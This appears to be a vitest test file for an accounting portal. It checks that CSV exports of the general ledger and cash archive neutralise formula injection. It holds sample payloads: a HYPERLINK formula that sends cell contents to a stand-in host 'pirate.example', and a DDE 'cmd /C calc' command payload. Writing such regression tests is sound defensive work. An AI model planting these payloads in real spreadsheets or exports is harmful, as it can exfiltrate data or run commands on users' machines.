import { randomUUID } from 'node:crypto';
import { strFromU8, unzipSync } from 'fflate';
import { beforeAll, describe, expect, it } from 'vitest';
import { addDays } from '../../src/domain/dates';
import { createRegister } from '../../server/src/modules/cash-registers/service';
import { GARAGE, MARTIN } from '../support/invoice-helpers';
import { useTestServer } from '../support/use-test-server';

// Decision 075: a text someone typed (a FEC label, an account's name, a cash
// movement's label) reaches the CSV the portal writes. Starting with = + - @ it ran as a formula in
// Excel (`=HYPERLINK(…)` opening a site, `-2+3` computed). Each such cell is now prefixed with « ' »
// and quoted; plain numbers (negative amounts, balances) stay numbers.

const ctx = useTestServer({ signIn: ['demo', 'admin'] });
const api = () => ctx.server.api;

/** The cells of a CSV written with « ; », quotes doubled, CRLF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const body = text.replace(/^\uFEFF/, '');
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < body.length; i++) {
    const ch = body[i];
    if (quoted) {
      if (ch === '"' && body[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"' && cell === '') quoted = true;
    else if (ch === ';') endCell();
    else if (ch === '\r' && body[i + 1] === '\n') {
      endCell();
      rows.push(row);
      row = [];
      i++;
    } else cell += ch;
  }
  if (cell !== '' || row.length) {
    endCell();
    rows.push(row);
  }
  return rows;
}

/** What a spreadsheet would run: a cell starting with = + - @ (after blanks) that is not a plain number. */
const formulas = (rows: string[][]) =>
  rows.flat().filter((c) => /^\s*[=+\-@]|^[\t\r]/.test(c) && !/^[+-]?\d+(?:[.,]\d+)?$/.test(c));

const HOSTILE = {
  link: '=HYPERLINK("https://pirate.example/?vol="&A1;"Cliquez")',
  sum: "@SUM(1+1)*cmd|' /C calc'!A0",
  plus: '+33 6 12 34 56 78',
  minus: '-2+3',
  account: '=1+1 Banque',
};

function fecLine(f: { account: string; accountLabel: string; piece: string; label: string; d: string; c: string }) {
  return [
    'OD',
    'Opérations diverses',
    'OD0001',
    '20250301',
    f.account,
    f.accountLabel,
    '',
    '',
    f.piece,
    '20250301',
    f.label,
    f.d,
    f.c,
    '',
    '',
    '20250315',
    '',
    '',
  ].join('\t');
}

const FEC = [
  'JournalCode\tJournalLib\tEcritureNum\tEcritureDate\tCompteNum\tCompteLib\tCompAuxNum\tCompAuxLib\tPieceRef\tPieceDate\tEcritureLib\tDebit\tCredit\tEcritureLet\tDateLet\tValidDate\tMontantdevise\tIdevise',
  fecLine({
    account: '512000',
    accountLabel: HOSTILE.account,
    piece: HOSTILE.minus,
    label: HOSTILE.link,
    d: '0,00',
    c: '150,00',
  }),
  fecLine({ account: '606000', accountLabel: 'Achats', piece: 'P-1', label: HOSTILE.sum, d: '100,00', c: '0,00' }),
  fecLine({ account: '606000', accountLabel: 'Achats', piece: 'P-1', label: HOSTILE.plus, d: '50,00', c: '0,00' }),
  '',
].join('\n');

describe('CSV exports: no cell runs as a formula', () => {
  let garage: number;
  beforeAll(async () => {
    garage = ctx.company(GARAGE);
    const form = new FormData();
    form.append('file', new Blob([FEC], { type: 'text/plain' }), '123456789FEC20251231.txt');
    const res = await api().request('POST', '/api/my-accounting/imports', {
      token: ctx.admin,
      company: garage,
      rawBody: form,
    });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
  });

  it('the great book: labels, account names and pieces neutralised; negative balances stay numbers', async () => {
    const res = await api().get('/api/my-accounting/great-book/export?accounts=512,606', {
      token: ctx.demo,
      company: garage,
    });
    expect(res.status).toBe(200);
    const text = String(res.body);
    const rows = parseCsv(text);
    expect(formulas(rows)).toEqual([]);
    const bank = rows.find((r) => r[0] === '512000')!;
    expect(bank[1]).toBe(`'${HOSTILE.account}`);
    expect(bank[5]).toBe(`'${HOSTILE.minus}`);
    expect(bank[6]).toBe(`'${HOSTILE.link}`);
    expect(bank.at(-1)).toBe('-150,00');
    const labels = rows.filter((r) => r[0] === '606000').map((r) => r[6]);
    expect(labels).toEqual(expect.arrayContaining([`'${HOSTILE.sum}`, `'${HOSTILE.plus}`]));
    // The raw text: the negative balance unquoted, the formula quoted after its quote mark.
    expect(text).toContain(';-150,00\r\n');
    expect(text).toContain(`;"'=HYPERLINK(""https://pirate.example/?vol=""&A1;""Cliquez"")";`);
  });

  it('the cash archive: a movement’s label neutralised; a correction’s negative amount stays a number', async () => {
    const company = ctx.company(MARTIN);
    const { register, types } = await createRegister(ctx.server.deps.db, company, {
      label: `Test ${randomUUID().slice(0, 6)}`,
      createdAt: ctx.server.deps.now(),
    });
    const type = (code: string) => types.find((t) => t.code === code)!.id;
    const day = '2026-02-02';
    ctx.server.setNow(new Date(`${addDays(day, 1)}T10:00:00.000Z`));
    try {
      const expense = { id: randomUUID(), idTypeMouv: type('depense-especes'), amount: 12, label: HOSTILE.link };
      const first = await api().put(
        `/api/sales-register/${register.uuid}/days/${day}`,
        { movements: [{ id: randomUUID(), idTypeMouv: type('fond-de-caisse'), amount: 100 }, expense] },
        { token: ctx.demo, company },
      );
      expect(first.status, JSON.stringify(first.body)).toBe(200);
      const fix = await api().put(
        `/api/sales-register/${register.uuid}/days/${day}`,
        {
          movements: [
            {
              id: randomUUID(),
              idTypeMouv: expense.idTypeMouv,
              amount: -2,
              idTypeMouvLie: expense.id,
              label: '-2 oubli',
            },
          ],
        },
        { token: ctx.demo, company },
      );
      expect(fix.status, JSON.stringify(fix.body)).toBe(200);
      const zip = await api().get(`/api/sales-register/${register.uuid}/archive?dateStart=${day}&dateEnd=${day}`, {
        token: ctx.demo,
        company,
      });
      expect(zip.status).toBe(200);
      const files = unzipSync(new Uint8Array(zip.raw));
      const rows = parseCsv(strFromU8(files['mouvements.csv']));
      expect(formulas(rows)).toEqual([]);
      const head = rows[0];
      const label = head.indexOf('libelle');
      const amount = head.indexOf('montant');
      expect(rows.map((r) => r[label])).toEqual(expect.arrayContaining([`'${HOSTILE.link}`, `'-2 oubli`]));
      expect(rows.map((r) => r[amount])).toContain('-2,00');
      expect(formulas(parseCsv(strFromU8(files['clotures.csv'])))).toEqual([]);
    } finally {
      ctx.server.setNow(null);
    }
  });
});
